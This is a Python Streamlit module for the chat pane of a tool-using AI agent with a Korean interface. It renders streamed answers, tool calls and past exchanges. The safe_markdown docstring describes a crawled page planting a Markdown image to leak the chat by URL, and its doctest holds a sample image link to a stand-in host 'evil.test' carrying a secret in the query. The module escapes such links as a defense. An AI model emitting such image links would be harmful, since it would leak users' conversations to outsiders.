"""The chat pane: past exchanges, then the streamed answer to a new question with its tool use.

Model and tool text is rendered as Markdown with images disarmed, or as plain text; never as HTML.
"""

from __future__ import annotations

import json
import re
from typing import Any

import streamlit as st

from agent.events import Done, Notice, Token, ToolCall, ToolResult
from agent.llm.handle import ChatHandle
from agent.runner import stream_turn
from config import Settings
from ui import session

CURSOR = "▌"
_IMAGE = re.compile(r"!\[")


def safe_markdown(text: str) -> str:
    """Markdown that cannot load remote images: a crawled page could plant one to leak the chat by URL.

    >>> safe_markdown("결과 ![x](http://evil.test/p.png?q=secret) 끝")
    '결과 !\\\\[x](http://evil.test/p.png?q=secret) 끝'
    """
    return _IMAGE.sub(r"!\\[", text)


def format_call(name: str, args: dict[str, Any]) -> str:
    """A tool call as one readable line.

    >>> format_call("current_time", {})
    'current_time()'
    >>> format_call("search", {"query": "지하철 요금", "k": 3})
    'search(query="지하철 요금", k=3)'
    """
    inner = ", ".join(f"{k}={json.dumps(v, ensure_ascii=False)}" for k, v in args.items())
    return f"{name}({inner})"


def _render_tools(container, tools: list[dict[str, Any]], *, running: bool = False):
    label = "도구 사용 중…" if running else f"도구 사용 {len(tools)}회"
    status = container.status(label, state="running" if running else "complete", expanded=False)
    for item in tools:
        status.text(f"→ {format_call(item['name'], item['args'])}")
        if "result" in item:
            status.text(("오류: " if item["error"] else "← ") + item["result"])
    return status


def render_record(record: dict[str, Any]) -> None:
    """One past exchange entry, as it was shown when it streamed."""
    with st.chat_message(record["role"]):
        if record.get("tools"):
            _render_tools(st.container(), record["tools"])
        for notice in record.get("notices", []):
            st.warning(notice, icon="ℹ️")
        if record.get("text"):
            st.markdown(safe_markdown(record["text"]))
        if record.get("error"):
            st.error(record["error"])
        if record.get("badge"):
            st.caption(record["badge"])


def render_transcript() -> None:
    for record in session.transcript():
        render_record(record)


def answer(handle: ChatHandle, settings: Settings, question: str) -> dict[str, Any]:
    """Stream the answer to `question` into an assistant message; return the record to keep."""
    record: dict[str, Any] = {"role": "assistant", "text": "", "tools": [], "notices": []}
    with st.chat_message("assistant"):
        tools_slot, notice_area, text_area, foot = st.empty(), st.container(), st.empty(), st.empty()
        text_area.markdown(CURSOR)
        try:
            for event in stream_turn(handle, session.history(), question, settings):
                if isinstance(event, Token):
                    record["text"] += event.text
                    text_area.markdown(safe_markdown(record["text"]) + CURSOR)
                elif isinstance(event, ToolCall):
                    record["tools"].append({"name": event.name, "args": event.args, "id": event.id})
                    if record["text"]:  # text the model said before calling stays apart from the answer
                        record["text"] += "\n\n"
                    _render_tools(tools_slot.container(), record["tools"], running=True)
                elif isinstance(event, ToolResult):
                    for item in record["tools"]:
                        if item["id"] == event.id:
                            item.update(result=event.content, error=event.is_error)
                    _render_tools(tools_slot.container(), record["tools"], running=True)
                elif isinstance(event, Notice):
                    record["notices"].append(event.text)
                    notice_area.warning(event.text, icon="ℹ️")
                elif isinstance(event, Done):
                    record["badge"] = f"{handle.badge()} · {event.elapsed:.1f}초"
                    record["text"] = record["text"] or "(빈 답변입니다. 질문을 바꿔 다시 물어보세요.)"
                    session.remember_turn(question, event.answer, session.history_budget(handle))
        except Exception as error:  # noqa: BLE001 - shown as one Korean line, logged with its traceback
            record["error"] = session.describe_error(error)
            st.error(record["error"])
        if record["text"]:
            text_area.markdown(safe_markdown(record["text"]))
        else:
            text_area.empty()
        if record["tools"]:
            _render_tools(tools_slot.container(), record["tools"])
        if record.get("badge"):
            foot.caption(record["badge"])
    return record


def ask(handle: ChatHandle, settings: Settings, question: str) -> None:
    """Show the question, stream the answer, keep both in the transcript."""
    user = {"role": "user", "text": question}
    render_record(user)
    record = answer(handle, settings, question)
    session.transcript().extend([user, record])
